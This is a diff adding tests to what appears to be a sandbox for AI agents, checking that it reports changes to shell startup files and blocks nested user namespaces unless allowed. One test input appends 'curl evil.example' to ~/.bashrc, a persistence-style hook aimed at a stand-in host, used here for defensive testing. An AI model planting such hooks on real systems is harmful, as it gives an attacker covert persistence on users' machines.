@@ -1,4 +1,4 @@
-"""Jails seen and ended from outside: logs, kill, time limits."""
+"""What a jail can be told at its start, and jails seen and ended from outside."""
 
 from __future__ import annotations
 
@@ -81,3 +81,30 @@ def test_a_time_limit_ends_the_agent(clean_lab: Lab) -> None:
     assert done.returncode == 124
     assert "time limit of 1 s" in done.errors
     assert clean_lab.jail(["true"], "--timeout", "30").returncode == 0
+
+
+def test_what_runs_later_and_was_changed_is_told(clean_lab: Lab) -> None:
+    done = clean_lab.jail(["sh", "-c", "echo 'curl evil.example' >> ~/.bashrc; echo x > notes.txt"])
+    assert done.returncode == 0
+    assert "/.bashrc" in done.errors
+    assert "notes.txt" not in done.errors
+    (stopped,) = [e for e in done.events() if e["event"] == "stopped"]
+    assert [line.rpartition("/")[2] for line in stopped["changed"]] == [".bashrc"]
+    quiet = clean_lab.jail(["sh", "-c", "echo x > notes.txt"])
+    assert [e["changed"] for e in quiet.events() if e["event"] == "stopped"] == [[]]
+
+
+def test_user_namespaces_only_where_they_were_asked_for(clean_lab: Lab) -> None:
+    nested = [
+        "unshare",
+        "--user",
+        "--map-root-user",
+        "--net",
+        "sh",
+        "-c",
+        "id -u; ip link; curl -sS --max-time 5 http://www.example.com/",
+    ]
+    assert clean_lab.jail(nested).returncode != 0
+    done = clean_lab.jail(nested, "--nested-sandboxes")
+    assert done.text.startswith("0\n"), done.errors
+    assert "Could not resolve host" in done.errors  # they lead nowhere
